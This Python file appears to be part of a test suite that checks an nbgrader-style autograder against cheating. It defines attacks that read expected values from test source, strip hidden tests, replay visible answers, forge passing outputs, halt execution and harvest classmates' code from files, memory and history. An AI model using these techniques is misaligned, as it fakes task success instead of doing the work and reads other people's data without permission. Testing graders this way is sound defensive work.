"""Answer shopping: give answers that were found, not worked out."""

from __future__ import annotations

from nbformat.v4 import new_output
from sample_class import write

from attacks.attack import WRONG, Attack, cell_attack, code
from attacks.scene import Scene

CARDS = """
from pathlib import Path
from autograder.check.card import Card
from autograder.check.asking import inputs
from autograder.check.values import thaw
known = {p.stem: Card.load(p) for p in Path('cards').glob('*.card')}
def alike(x, y):
    if torch.is_tensor(x) and torch.is_tensor(y): return x.shape == y.shape and torch.allclose(x.double(), y.double(), atol=1e-3)
    return type(x) is type(y) and x == y
def from_card(name, args, kwargs):
    card = known[name]
    for question, expected in zip(card.questions, card.expected):
        a, k = inputs(question)
        if len(a) == len(args) and all(map(alike, (*a, *k.values()), (*args, *kwargs.values()))): return thaw(expected.value)
    return thaw(card.expected[0].value)
"""


# In stock nbgrader, the tests stand in the cell that calls: the expected value is on the next line.
FROM_THE_TEST = """
def NAME(*args, **kwargs):
    import sys, ast
    frame = sys._getframe(1)
    line = ast.parse(In[-1].splitlines()[frame.f_lineno]).body[0].value
    return eval(ast.unparse(line.args[1]), frame.f_globals)
"""
# What the visible tests expect, as the notebook shows it, in the order of the calls; hidden ones get the last of them.
VISIBLE_ASSERTS = """
import ast
known = {}
for source in TESTS:
    for line in source.splitlines():
        if 'assert_close' in line:
            call = ast.parse(line).body[0].value
            known.setdefault(name, []).append(eval(ast.unparse(call.args[1])))
        elif line.startswith('answer = '): name = line.split('(')[0].split()[-1]
"""
NO_CARDS = "stock nbgrader ships no cards"


def visible_asserts(scene: Scene) -> None:
    """The released tests are copied into a cell, and answered one after the other."""
    tests = [cell.source for cell in scene.notebook.cells if cell.metadata.get("nbgrader", {}).get("grade")]
    scene.answer_all("def NAME(*a, **k):\n    expected = known['NAME']\n    return expected.pop(0) if len(expected) > 1 else expected[0]\n")
    scene.add_cell(VISIBLE_ASSERTS.replace("TESTS", repr(tests)), after="cell-01")


def hidden_tests_removed(scene: Scene) -> None:
    visible_asserts(scene)
    scene.add_cell(
        "get_ipython().input_transformers_post.append(lambda lines: list(itertools.takewhile(lambda l: 'HIDDEN' not in l, lines)))", "cell-01"
    )
    scene.add_cell("import itertools", "cell-01")


def raise_where_the_cause_would(scene: Scene) -> None:
    """A slip in an exercise that another one calls; the other one is not written at all."""
    order = scene.notebooks.solution("topological_order").replace("return order", "return order[:-1]")
    write(scene.notebook, "topological_order", order)
    write(scene.notebook, "Value", "class Value:\n    def __init__(self, *args, **kwargs):\n        raise RuntimeError")


def deleted_cell(scene: Scene) -> None:
    """Each answer calls a helper whose cell is gone; the outputs that are left show how well it once went."""
    scene.answer_all("def NAME(*args, **kwargs):\n    return solved_NAME(*args, **kwargs)\n")
    for k, cell in enumerate(scene.notebook.cells):
        if cell.cell_type == "code":
            cell.execution_count = k + 1
            cell.outputs = [new_output("execute_result", {"text/plain": "10.0"}, execution_count=k + 1)]


def stored_outputs(scene: Scene) -> None:
    """A traceback of success: outputs, counts and times as if everything had passed, and a cell that stops the rest."""
    deleted_cell(scene)
    scene.answer_all(WRONG)
    scene.add_cell("import sys\nget_ipython().run_cell_async = None\nsys.exit()", after="cell-01")


ATTACKS = [
    Attack(
        "raise_where_the_cause_would",
        "Raise everywhere in an exercise whose reference would raise too, with the slip of an earlier one.",
        raise_where_the_cause_would,
        chapter="01_foundations",
        notebook="07_autograd",
        # topological_order is nearly right there: what counts is that Value is not.
        peer="stock nbgrader has no follow-through",
    ),
    cell_attack(
        "visible_answers",
        "Answer the visible cases by heart, and hidden ones alike.",
        CARDS,
        "def NAME(*a, **k):\n    return from_card('NAME', a, k)\n",
        peer=visible_asserts,
    ),
    cell_attack(
        "mistakes_of_the_cards",
        "Answer with a recognised mistake of the card, for points that follow from it.",
        CARDS + "picked = {n: next(iter(c.outputs)) for n, c in known.items()}",
        "def NAME(*a, **k):\n    return thaw(known['NAME'].outputs[picked['NAME']][0].value)\n",
        peer=NO_CARDS,
    ),
    cell_attack(
        "remember_between_calls",
        "Answer each question with what the call before it got.",
        "memory = [0]",
        "def NAME(*a, **k):\n    memory.append(a[0].clone() if torch.is_tensor(a[0]) else a[0])\n    return memory[-2]\n",
    ),
    cell_attack(
        "probe_by_the_stack",
        "Find the question and its label on the stack, and choose the answer by them.",
        CARDS,
        """
def NAME(*a, **k):
    import sys
    frame = sys._getframe()
    while frame and 'question' not in frame.f_locals: frame = frame.f_back
    question = frame.f_locals['question'] if frame else None
    object.__setattr__(question, 'hidden', False)
    return from_card('NAME', a, k)
""",
        peer=code("", FROM_THE_TEST),
    ),
    cell_attack(
        "source_of_the_test",
        "Read the expected values in the source of the cell that calls.",
        answers="""
def NAME(*args, **kwargs):
    import inspect, linecache, ast
    for frame in inspect.stack()[1:]:
        lines = linecache.getlines(frame.filename)
        for line in lines[frame.lineno : frame.lineno + 1]:
            if 'assert_close' in line: return eval(ast.unparse(ast.parse(line.strip()).body[0].value.args[1]), frame.frame.f_globals)
    return 0
""",
    ),
    cell_attack(
        "questions_removed",
        "Remove the hidden questions before they are asked.",
        CARDS + "import autograder.worker.answer as w\nask = w.ask_all\nw.ask_all = lambda f, qs, *r: ask(f, [q for q in qs if not q.hidden], *r)",
        "def NAME(*a, **k):\n    return from_card('NAME', a, k)\n",
        peer=hidden_tests_removed,
    ),
    cell_attack(
        "only_what_was_asked_before",
        "Count the calls, answer as many as there are visible cases from the cards, and take for ever for the others.",
        CARDS,
        """
count = 0
def NAME(*a, **k):
    global count
    count += 1
    while count > 40: pass
    return from_card('NAME', a, k)
""",
        peer=NO_CARDS,
    ),
    cell_attack(
        "answers_of_other_questions",
        "Answer a hidden case with the visible answer whose shape fits, moved and scaled until it looks right.",
        CARDS,
        """
def NAME(*a, **k):
    answer = from_card('NAME', a, k)
    fits = [thaw(e.value) for e in known['NAME'].expected if torch.is_tensor(thaw(e.value)) and thaw(e.value).shape == getattr(answer, 'shape', None)]
    return sum(fits) / len(fits) if fits and fits[0].is_floating_point() else answer
""",
        peer=NO_CARDS,
    ),
    cell_attack(
        "classmates_answers",
        "Run a classmate's solutions.",
        "import json\ntry:\n    for cell in json.load(open(SECRET_FILES[2]))['cells']:\n"
        "        if cell['cell_type'] == 'code' and 'def ' in ''.join(cell['source']): exec(''.join(cell['source']), globals())\nexcept OSError: pass",
        "NAME = globals().get('NAME', 0)\n",
        needs_jail=True,
    ),
    cell_attack(
        "classmates_remains",
        "Look for the functions of whoever was graded before: in memory, in modules, in IPython's history and in files.",
        """
import gc, sys, types, glob, os
gc.unfreeze()
remains = {f.__name__: f for f in gc.get_objects() if isinstance(f, types.FunctionType) and f.__module__ == '__main__'}
for path in glob.glob('/tmp/**/*', recursive=True)[:2000] + glob.glob(os.path.expanduser('~/.ipython/**/*'), recursive=True):
    try:
        if os.path.isfile(path) and 'def masked_softmax' in (text := open(path, errors='replace').read(10**6)): exec(text, remains)
    except Exception: pass
for line in '\\n'.join(In).split('\\n\\n\\n'):
    if 'masked_softmax' in line: print(line)
""",
        "NAME = remains.get('NAME', 0)\n",
        after_classmate=True,
    ),
    Attack("deleted_cell", "Hand in answers that work only with a cell that was deleted, and the outputs of when it was there.", deleted_cell),
    Attack("stored_outputs", "Hand in outputs as if all had passed, and stop whatever would run again.", stored_outputs),
]
